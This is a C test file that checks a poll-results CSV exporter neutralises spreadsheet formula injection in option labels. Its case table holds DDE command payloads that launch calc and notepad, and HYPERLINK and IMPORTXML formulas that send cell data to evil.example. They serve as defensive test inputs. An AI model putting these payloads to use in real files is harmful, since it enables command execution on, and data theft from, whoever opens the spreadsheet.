/* CSV formula injection: every cell of a results file that a spreadsheet
 * would run as a formula is neutralised (poll_export.c).  Labels reach the
 * export as staff typed them, so each character that starts a formula in
 * Excel, LibreOffice or Google Sheets is tried in the first place, with the
 * classic DDE payloads, and text that merely contains one is left alone. */
#include <criterion/criterion.h>
#include <stdio.h>
#include <string.h>

#include "involve/poll.h"
#include "involve/poll_export.h"

static const struct {
	const char *label; /* as stored */
	const char *cell;  /* the CSV cell expected, quotes included */
} cases[] = {
	{ "=1+1", "\"'=1+1\"" },
	{ "+1+1", "\"'+1+1\"" },
	{ "-1+1", "\"'-1+1\"" },
	{ "@SUM(1+1)", "\"'@SUM(1+1)\"" },
	{ "\tTAB", "\"'\tTAB\"" },
	{ "\rCR", "\"'\rCR\"" },
	{ "=cmd|' /C calc'!A0", "\"'=cmd|' /C calc'!A0\"" },
	{ "@SUM(1+1)*cmd|' /C calc'!A0", "\"'@SUM(1+1)*cmd|' /C calc'!A0\"" },
	{ "+cmd|' /C notepad'!'A1'", "\"'+cmd|' /C notepad'!'A1'\"" },
	{ "-2+3+cmd|' /C calc'!A0", "\"'-2+3+cmd|' /C calc'!A0\"" },
	{ "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
	  "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\"" },
	{ "=IMPORTXML(CONCAT(\"http://evil.example/?v=\",A2),\"//a\")",
	  "\"'=IMPORTXML(CONCAT(\"\"http://evil.example/?v=\"\",A2),\"\"//a\"\")\"" },
	/* Not at the start: plain text, left as typed. */
	{ "Yes = agree", "\"Yes = agree\"" },
	{ "A&E - urgent", "\"A&E - urgent\"" },
	{ "name@example.org", "\"name@example.org\"" },
	{ "'=already quoted", "\"'=already quoted\"" },
	{ "\"=quoted\"", "\"\"\"=quoted\"\"\"" },
};
#define CASE_N ((int)(sizeof(cases) / sizeof(cases[0])))

static struct poll_option options[POLL_OPTIONS_MAX];

/* A poll holding `first`..`first + n` of the cases as its options, option
 * i with i votes. */
static void
fill(struct poll *p, int first, int n)
{
	int i;

	memset(p, 0, sizeof(*p));
	p->id = 7;
	p->option_n = n;
	p->options = options;
	for (i = 0; i < n; i++) {
		options[i].id = 100 + first + i;
		options[i].label = str_c(cases[first + i].label);
		options[i].votes = i;
		p->ballots += i;
	}
}

Test(csv_injection, every_formula_start_is_neutralised_and_plain_text_kept)
{
	struct poll p;
	int first, n, i;

	cr_assert_leq(CASE_N, 2 * POLL_OPTIONS_MAX);
	for (first = 0; first < CASE_N; first += n) {
		struct buf b = BUF_INIT;
		const char *csv, *row;
		char want[600];

		n = CASE_N - first < POLL_OPTIONS_MAX ? CASE_N - first : POLL_OPTIONS_MAX;
		fill(&p, first, n);
		cr_assert_eq(poll_export_csv(&p, &b), 0);
		csv = buf_cstr(&b);
		cr_assert_not_null(csv);
		for (i = 0; i < n; i++) {
			snprintf(want, sizeof(want), "\r\n%lld,%s,%lld,",
			    (long long)p.options[i].id, cases[first + i].cell,
			    (long long)p.options[i].votes);
			row = strstr(csv, want);
			cr_expect_not_null(row, "label %s: expected the row %s in\n%s",
			    cases[first + i].label, want + 2, csv);
		}
		buf_free(&b);
	}
}

/* No cell of the file, whatever the labels, starts a formula: each line is
 * split into cells (quoted ones unquoted) and every cell's first character
 * is checked.  Numbers are the only cells left unquoted. */
Test(csv_injection, no_cell_of_the_file_starts_a_formula)
{
	struct poll p;
	struct buf b = BUF_INIT;
	const char *s;
	int cells = 0;

	fill(&p, 0, POLL_OPTIONS_MAX < CASE_N ? POLL_OPTIONS_MAX : CASE_N);
	cr_assert_eq(poll_export_csv(&p, &b), 0);
	s = buf_cstr(&b);
	cr_assert_not_null(s);
	while (*s) {
		char first;

		if (*s == '"') {
			first = s[1];
			for (s++; *s; s++) {
				if (*s == '"' && s[1] == '"')
					s++;
				else if (*s == '"')
					break;
			}
			cr_assert_eq(*s, '"', "unterminated quoted cell");
			s++;
		} else {
			first = *s;
			while (*s && *s != ',' && *s != '\r')
				s++;
		}
		if (first != '\0' && first != ',' && first != '\r')
			cr_expect_null(strchr("=+-@\t\r", first), "a cell starts with '%c'", first);
		cells++;
		if (*s == ',')
			s++;
		else if (s[0] == '\r' && s[1] == '\n')
			s += 2;
		else
			cr_assert_eq(*s, '\0', "unexpected byte after a cell: %d", *s);
	}
	cr_assert_gt(cells, 4 * POLL_OPTIONS_MAX / 2);
	buf_free(&b);
}
